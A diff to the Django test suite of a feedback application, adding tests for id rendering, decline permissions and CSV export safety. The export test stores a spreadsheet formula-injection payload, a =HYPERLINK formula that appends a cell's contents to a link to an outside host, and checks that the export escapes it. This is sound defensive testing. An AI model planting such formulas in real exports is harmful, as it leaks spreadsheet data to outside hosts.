@@ -15,6 +15,7 @@ from django.utils import timezone, translation
 from django.utils.translation import gettext_lazy
 
 from accounts.services import person_deactivate
+from core.forms import LEFT
 from feedback.models import Feedback, FeedbackAsk, FeedbackRequest, Theme
 from feedback.services import FeedbackError, feedback_give, feedback_request_create
 from notifications.models import Notification
@@ -116,16 +117,13 @@ def test_asking_yourself_or_someone_who_left_changes_nothing(cast, client_for, l
     before = _counts()
     for people, message in (
         ([cast.alice.pk], gettext_lazy("You cannot choose yourself.")),
-        ([cast.lena.pk], gettext_lazy("%(name)s has left the organisation and cannot be chosen.")),
+        ([cast.lena.pk], LEFT),
         ([cast.eve.pk], gettext_lazy("Choose among the people listed.")),
         ([], gettext_lazy("Choose at least one person to ask.")),
     ):
         response = client.post(reverse("feedback:ask"), {"people": people, "about": "Mødet"})
         assert response.status_code == 200
-        expected = in_language(message, language)
-        if "%(name)s" in expected:
-            expected = expected % {"name": "Lena Lund"}
-        assert expected in response.content.decode(), people
+        assert in_language(message, language) in response.content.decode(), people
     assert _counts() == before
     # The service says the same to any other caller.
     with pytest.raises(FeedbackError):
@@ -252,3 +250,38 @@ def test_the_feedback_pages_cost_a_fixed_number_of_queries(cast, client_for, val
         feedback_request_create(asker=cast.alice, people=[cast.bob, cast.lena], about="Mere")
     assert queries() == few
     assert few == [11, 6, 10, 4]
+
+
+def test_people_are_chosen_by_their_id_whatever_its_size(cast, client_for):
+    """A form's values are ids, never numbers formatted for reading ("123.456")."""
+    from accounts.models import User
+    from organisation.models import Membership
+
+    big = User.objects.create(pk=123456, username="stor", first_name="Stor")
+    Membership.objects.create(user=big, unit=cast.team)
+    html = client_for(cast.alice).get(reverse("feedback:ask")).content.decode()
+    assert 'value="123456"' in html
+
+
+def test_the_export_never_holds_a_formula(cast, client_for):
+    feedback_give(
+        giver=cast.bob,
+        receiver=cast.alice,
+        works_well='=HYPERLINK("https://example.org/?d="&H3;"Læs mere")',
+        even_better="+1",
+        about="@alle",
+    )
+    response = client_for(cast.alice).get(reverse("feedback:export"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
+    assert "'=HYPERLINK(" in " ".join(cells)
+
+
+def test_only_the_person_asked_can_decline(cast):
+    from feedback.services import feedback_ask_decline
+
+    request = feedback_request_create(asker=cast.alice, people=[cast.bob], about="Mødet")
+    with pytest.raises(FeedbackError):
+        feedback_ask_decline(ask=request.asks.get(), by=cast.lena)
+    assert request.asks.get().status == FeedbackAsk.Status.PENDING
